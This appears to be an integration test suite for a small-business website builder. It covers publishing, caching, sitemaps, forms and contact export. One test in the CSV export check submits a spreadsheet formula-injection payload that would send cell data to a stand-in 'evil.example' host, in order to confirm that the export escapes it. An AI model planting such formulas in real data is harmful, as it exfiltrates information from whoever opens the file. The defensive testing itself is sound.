import { randomUUID } from 'node:crypto';
import { get as httpGet, type IncomingHttpHeaders } from 'node:http';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { DataSource } from 'typeorm';
import * as Y from 'yjs';
import { MARKETING_ROUTES, createDefaultSiteDocument, errorBodySchema, publicUrl, siteRootMap, sitemapBucket, type SectionType } from '@frontdoor/shared';
import { DraftEventStore } from '@frontdoor/data';
import { SitemapRebuild } from '../src/websites/sitemap-rebuild.js';
import { startAppWithWorker } from './support/app-with-worker.js';
import { eventually } from './support/collab-client.js';
import { HttpClient, waitForMail } from './support/http-client.js';
import { signInByCode } from './support/sign-in.js';

let running: Awaited<ReturnType<typeof startAppWithWorker>>;
let db: DataSource;
let store: DraftEventStore;

const ALL: SectionType[] = [
  'Header',
  'Introduction',
  'Services',
  'Gallery',
  'QuoteBanner',
  'ImageBanner',
  'Team',
  'CustomerReviews',
  'FrequentlyAskedQuestions',
  'Contact',
  'Newsletter',
  'Footer',
];

beforeAll(async () => {
  running = await startAppWithWorker();
  db = running.app.get(DataSource);
  store = new DraftEventStore(db);
});
afterAll(() => running?.stop());

async function ownerWithDraft(email: string, businessName = 'Maple Street Barbers') {
  const { client, session } = await signInByCode(running.base, email);
  const id = randomUUID();
  await store.createDraft({ userId: session.user.id, document: createDefaultSiteDocument({ id, businessName, sectionTypes: ALL }) });
  return { client, id, userId: session.user.id };
}

async function waitForSitemap(bucketHas: (xml: string) => boolean) {
  for (let i = 0; i < 100; i++) {
    const index = await (await fetch(`${running.base}/sitemap.xml`)).text();
    const locs = [...index.matchAll(/<loc>([^<]+)<\/loc>/g)].map((m) => new URL(m[1]).pathname);
    const xmls = await Promise.all(locs.map((path) => fetch(`${running.base}${path}`).then((r) => r.text())));
    if (bucketHas(xmls.join('\n'))) return xmls.join('\n');
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('sitemap never matched');
}

it('publishes a draft at /{handle} without the app shell, with caching and a strict policy', async () => {
  const { client, id } = await ownerWithDraft('pub@example.com');
  expect((await client.get('/api/handles/maple-street')).body).toEqual({ available: true });
  const published = await client.post(`/api/websites/${id}/publish`, { handle: ' Maple Street!' });
  expect(published.status).toBe(200);
  expect(published.body).toMatchObject({
    handle: 'maplestreet',
    url: `${running.env.PUBLIC_URL ?? 'http://localhost:0'}/maplestreet`.replace('localhost:0', 'localhost:0'),
  });
  expect((await client.get('/api/handles/maplestreet')).body).toEqual({ available: false });

  const page = await fetch(`${running.base}/maplestreet`);
  expect(page.status).toBe(200);
  const html = await page.text();
  expect(html).toMatch(/^<!doctype html>/i);
  expect(html).toContain('Maple Street Barbers');
  expect(html).not.toContain('id="root"');
  expect(page.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
  expect(page.headers.get('content-security-policy')).toMatch(/script-src 'sha256-/);
  const etag = page.headers.get('etag')!;
  expect(etag).toBeTruthy();
  expect((await fetch(`${running.base}/maplestreet`, { headers: { 'if-none-match': etag } })).status).toBe(304);
  expect((await fetch(`${running.base}/maplestreet/any/depth`)).status).toBe(200);

  const [row] = await db.query(`SELECT handle, last_published_at FROM draft_websites WHERE id = $1`, [id]);
  expect(row.handle).toBe('maplestreet');
  expect(row.last_published_at).not.toBeNull();
  const kinds = (await store.events(id)).map((e) => e.kind);
  expect(kinds.at(-1)).toBe('published');
  await waitForSitemap((xml) => xml.includes('/maplestreet</loc>'));
});

/** A raw GET (fetch would undo the compression): status, headers and the bytes as sent. */
function rawGet(path: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: IncomingHttpHeaders; body: Buffer }> {
  return new Promise((resolve, reject) => {
    httpGet(`${running.base}${path}`, { headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
    }).on('error', reject);
  });
}

it('answers a published page from the cache in brotli, gzip or plain, as the visitor accepts', async () => {
  const { client, id } = await ownerWithDraft('fast@example.com', 'Quick Brew');
  await client.post(`/api/websites/${id}/publish`, { handle: 'quick-brew' });
  const plain = await rawGet('/quick-brew');
  expect(plain.status).toBe(200);
  expect(plain.headers['content-encoding']).toBeUndefined();
  const html = plain.body.toString('utf8');
  expect(html).toContain('Quick Brew');
  for (const [accept, encoding, decode] of [
    ['gzip, deflate, br', 'br', brotliDecompressSync],
    ['gzip', 'gzip', gunzipSync],
  ] as const) {
    const answer = await rawGet('/quick-brew?utm_source=x', { 'accept-encoding': accept });
    expect([answer.status, answer.headers['content-encoding'], answer.headers.vary]).toEqual([200, encoding, 'Accept-Encoding']);
    expect(Number(answer.headers['content-length'])).toBe(answer.body.length);
    expect(answer.body.length).toBeLessThan(plain.body.length / 2);
    expect(decode(answer.body).toString('utf8')).toBe(html);
    expect(answer.headers['content-security-policy']).toMatch(/default-src 'none'/);
  }
  expect((await rawGet('/quick-brew', { 'if-none-match': String(plain.headers.etag) })).status).toBe(304);
  // A new publish is seen at once, though the page was cached.
  const renamed = await client.post(`/api/websites/${id}/publish`, { handle: 'quick-brew-2' });
  expect(renamed.status).toBe(200);
  expect((await rawGet('/quick-brew')).status).toBe(404);
  expect((await rawGet('/quick-brew-2')).body.toString('utf8')).toContain('Quick Brew');
});

it('refuses a handle in use and an invalid one with the spec messages', async () => {
  const first = await ownerWithDraft('first@example.com', 'First Cafe');
  await first.client.post(`/api/websites/${first.id}/publish`, { handle: 'corner-cafe' });
  const second = await ownerWithDraft('second@example.com', 'Second Cafe');
  const taken = await second.client.post(`/api/websites/${second.id}/publish`, { handle: 'corner-cafe' });
  expect(taken.status).toBe(409);
  expect(errorBodySchema.parse(taken.body).error).toEqual({ code: 'handle_in_use', message: 'Web address already in use' });
  // The product's own pages are taken too: a site at /github-to-website or /sitemaps would hide them.
  for (const handle of ['github-to-website', 'sitemaps']) {
    const reserved = await second.client.post(`/api/websites/${second.id}/publish`, { handle });
    expect(reserved.status).toBe(409);
    expect((await second.client.get(`/api/handles/${handle}`)).body).toEqual({ available: false });
  }
  const invalid = await second.client.post(`/api/websites/${second.id}/publish`, { handle: '-x' });
  expect(invalid.status).toBe(400);
  expect(errorBodySchema.parse(invalid.body).error.message).toBe('Required: 3 or more characters (alphanumeric and dashes only)');
  const stranger = await second.client.post(`/api/websites/${first.id}/publish`, { handle: 'stolen-site' });
  expect(stranger.status).toBe(404);
});

it('publishes once when Publish is pressed several times at once: every press succeeds at the one address', async () => {
  const { client, id } = await ownerWithDraft('double-click@example.com', 'Double Click Deli');
  const answers = await Promise.all(Array.from({ length: 4 }, () => client.post(`/api/websites/${id}/publish`, { handle: 'double-click-deli' })));
  expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200]);
  expect(await db.query(`SELECT handle FROM websites WHERE draft_id = $1`, [id])).toEqual([{ handle: 'double-click-deli' }]);
  expect((await fetch(`${running.base}/double-click-deli`)).status).toBe(200);
});

it('moves a site to a new address: the old one answers 404, the first publish time is kept', async () => {
  const { client, id } = await ownerWithDraft('mover@example.com', 'Moving Co');
  await client.post(`/api/websites/${id}/publish`, { handle: 'old-address' });
  const [{ created_at: firstPublished }] = await db.query(`SELECT created_at FROM websites WHERE handle = 'old-address'`);
  await client.post(`/api/websites/${id}/publish`, { handle: 'new-address' });
  expect((await fetch(`${running.base}/old-address`)).status).toBe(404);
  expect((await fetch(`${running.base}/new-address`)).status).toBe(200);
  const [{ created_at: kept }] = await db.query(`SELECT created_at FROM websites WHERE handle = 'new-address'`);
  expect(new Date(kept).getTime()).toBe(new Date(firstPublished).getTime());
  const xml = await waitForSitemap((all) => all.includes('/new-address</loc>') && !all.includes('/old-address</loc>'));
  expect(xml).not.toContain('/old-address<');
});

it("records a publish's sitemap rebuild with it, answered by the worker's; one whose queueing was lost is queued when the app starts", async () => {
  const { client, id } = await ownerWithDraft('sitemap-ask@example.com', 'Sitemap Ask Bakery');
  expect((await client.post(`/api/websites/${id}/publish`, { handle: 'sitemap-ask' })).status).toBe(200);
  await waitForSitemap((xml) => xml.includes('/sitemap-ask</loc>'));
  const bucket = sitemapBucket('sitemap-ask');
  const pending = async () => (await db.query(`SELECT bucket FROM sitemap_rebuilds WHERE bucket = $1`, [bucket])).length;
  await eventually(async () => (await pending()) === 0, 'the rebuild to answer the request');

  // The process stopped after the commit, before queueing: the bucket is stale and the request waits.
  await db.query(`DELETE FROM sitemaps WHERE bucket = $1`, [bucket]);
  await db.query(`INSERT INTO sitemap_rebuilds (bucket, requested_at) VALUES ($1, now())`, [bucket]);
  expect(await waitForSitemap((xml) => !xml.includes('/sitemap-ask</loc>'))).not.toContain('/sitemap-ask</loc>');
  await running.app.get(SitemapRebuild).onApplicationBootstrap();
  await waitForSitemap((xml) => xml.includes('/sitemap-ask</loc>'));
  await eventually(async () => (await pending()) === 0, 'the rebuild to answer the request');
});

it('leaves sites with indexing disabled out of the sitemap and marks them noindex', async () => {
  const { client, id, userId } = await ownerWithDraft('hidden@example.com', 'Hidden Gem');
  const loaded = await store.load(id);
  const doc = new Y.Doc();
  Y.applyUpdate(doc, Y.encodeStateAsUpdate(loaded!.ydoc));
  const updates: Uint8Array[] = [];
  doc.on('update', (u: Uint8Array) => updates.push(u));
  (siteRootMap(doc).get('websiteSettings') as Y.Map<unknown>).set('searchIndexingEnabled', false);
  await store.appendUpdate(id, userId, Y.mergeUpdates(updates));
  await client.post(`/api/websites/${id}/publish`, { handle: 'hidden-gem' });
  const html = await (await fetch(`${running.base}/hidden-gem`)).text();
  expect(html).toMatch(/<meta name="robots" content="noindex"/);
  await new Promise((r) => setTimeout(r, 500));
  const xml = await waitForSitemap(() => true);
  expect(xml).not.toContain('/hidden-gem<');
});

it('takes contact and newsletter submissions, with and without JavaScript, and emails the owner', async () => {
  const { client, id } = await ownerWithDraft('forms@example.com', 'Form Bakery');
  await client.post(`/api/websites/${id}/publish`, { handle: 'form-bakery' });

  const json = await fetch(`${running.base}/api/public/form-bakery/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json' },
    body: JSON.stringify({ name: 'Ana', email: 'ana@example.com', message: 'Do you bake <b>rye</b>?' }),
  });
  expect(json.status).toBe(200);
  expect(((await json.json()) as { ok: boolean }).ok).toBe(true);

  const plain = await fetch(`${running.base}/api/public/form-bakery/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' },
    body: new URLSearchParams({ name: 'Ben', email: 'ben@example.com', message: 'Sourdough on Sundays?' }).toString(),
  });
  expect(plain.status).toBe(200);
  expect(plain.headers.get('content-type')).toMatch(/text\/html/);
  expect(await plain.text()).toContain('Back to the website');

  const invalid = await fetch(`${running.base}/api/public/form-bakery/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json' },
    body: JSON.stringify({ name: '', email: 'x', message: '' }),
  });
  expect(invalid.status).toBe(400);

  const bot = await fetch(`${running.base}/api/public/form-bakery/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json' },
    body: JSON.stringify({ name: 'Bot', email: 'bot@example.com', message: 'spam', company_website: 'http://spam.example' }),
  });
  expect(bot.status).toBe(200);

  const rows = await db.query(`SELECT fields FROM customer_contact_forms WHERE website_id = $1 ORDER BY created_at`, [id]);
  expect(rows.map((r: { fields: { title: string; value: string }[] }) => r.fields.find((f) => f.value.includes('@'))?.value)).toEqual([
    'ana@example.com',
    'ben@example.com',
  ]);
  const mail = await waitForMail(running.base, 'forms@example.com', (m) => m.subject.startsWith('New message') && m.text.includes('rye'));
  expect(mail.html).toContain('Do you bake &lt;b&gt;rye&lt;/b&gt;?');

  const signup = await fetch(`${running.base}/api/public/form-bakery/newsletter`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json' },
    body: JSON.stringify({ email: 'Fan@Example.com' }),
  });
  expect(signup.status).toBe(200);
  const subs = await db.query(`SELECT email FROM newsletter_subscriptions WHERE website_id = $1`, [id]);
  expect(subs).toEqual([{ email: 'fan@example.com' }]);
  expect((await fetch(`${running.base}/api/public/no-such-site/contact`, { method: 'POST' })).status).toBe(404);
});

it('deletes a website: the page answers 404 and the draft is gone', async () => {
  const { client, id } = await ownerWithDraft('deleter@example.com', 'Gone Soon');
  await client.post(`/api/websites/${id}/publish`, { handle: 'gone-soon' });
  expect((await client.request('DELETE', `/api/websites/${id}`)).status).toBe(204);
  expect((await fetch(`${running.base}/gone-soon`)).status).toBe(404);
  expect(await db.query(`SELECT id FROM draft_websites WHERE id = $1`, [id])).toEqual([]);
  expect((await new HttpClient(running.base).request('DELETE', `/api/websites/${id}`)).status).toBe(401);
});

it('serves robots.txt', async () => {
  const robots = await (await fetch(`${running.base}/robots.txt`)).text();
  expect(robots).toContain('Sitemap: ');
  expect(robots).toContain('Disallow: /api/');
  // The longer rule wins: the sites' booking pages may be crawled.
  expect(robots).toContain('Allow: /api/public/*/book');
});

it('lists the marketing pages, the create-from-a-page routes among them, in the sitemap and lets crawlers reach them', async () => {
  const index = await (await fetch(`${running.base}/sitemap.xml`)).text();
  expect(index).toMatch(/<loc>[^<]+\/sitemaps\/marketing\.xml<\/loc>/);
  const marketing = await fetch(`${running.base}/sitemaps/marketing.xml`);
  expect(marketing.status).toBe(200);
  expect(marketing.headers.get('content-type')).toMatch(/application\/xml/);
  const xml = await waitForSitemap(() => true);
  const base = publicUrl(running.env);
  for (const path of [
    '/',
    '/pricing',
    '/create-your-website-with-facebook',
    '/create-your-website-with-thumbtack',
    '/create-your-website-with-yelp',
    '/github-to-website',
  ]) {
    expect(xml).toContain(`<loc>${base}${path}</loc>`);
  }

  const robots = await (await fetch(`${running.base}/robots.txt`)).text();
  const disallowed = [...robots.matchAll(/^Disallow: (\S+)$/gm)].map((m) => m[1]);
  for (const path of MARKETING_ROUTES) {
    expect(disallowed.filter((prefix) => path.startsWith(prefix))).toEqual([]);
    expect((await fetch(`${running.base}${path}`)).status).toBe(200);
  }
});

it('exports contacts as CSV by an emailed link, only for the owner', async () => {
  const { client, id } = await ownerWithDraft('exporter@example.com', 'Export Deli');
  await client.post(`/api/websites/${id}/publish`, { handle: 'export-deli' });
  await fetch(`${running.base}/api/public/export-deli/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json' },
    body: JSON.stringify({ name: 'Cleo, "the cook"', email: 'cleo@example.com', message: 'Catering for 20?' }),
  });
  // A visitor's message a spreadsheet would run as a formula.
  await fetch(`${running.base}/api/public/export-deli/contact`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept: 'application/json' },
    body: JSON.stringify({ name: '@SUM(A1)', email: 'mallory@example.com', message: '=HYPERLINK("http://evil.example/?x="&A2,"Click")' }),
  });
  const stranger = await signInByCode(running.base, 'nosy@example.com');
  expect((await stranger.client.post(`/api/websites/${id}/export-contacts`)).status).toBe(404);
  const asked = await client.post(`/api/websites/${id}/export-contacts`);
  expect(asked.status).toBe(202);
  expect(asked.body).toEqual({ message: 'Contact export may take a few minutes' });
  const mail = await waitForMail(running.base, 'exporter@example.com', (m) => m.subject.includes('are ready'));
  const link = /(http\S+\/api\/exports\/\S+)/.exec(mail.text)![1];
  const path = new URL(link).pathname + new URL(link).search;
  const csv = await fetch(`${running.base}${path}`);
  expect(csv.status).toBe(200);
  expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
  const text = await csv.text();
  expect(text.split('\n')[0]).toMatch(/^Name,Email,Message,Received at/);
  expect(text).toContain('"Cleo, ""the cook"""');
  // Exported as text, never as a live formula.
  expect(text).toContain(`'@SUM(A1),mallory@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`);
  expect(text).not.toMatch(/(^|,)"?[=@+-]/m);
  expect((await fetch(`${running.base}${path.replace(/token=[^&]+/, 'token=wrong')}`)).status).toBe(404);
});
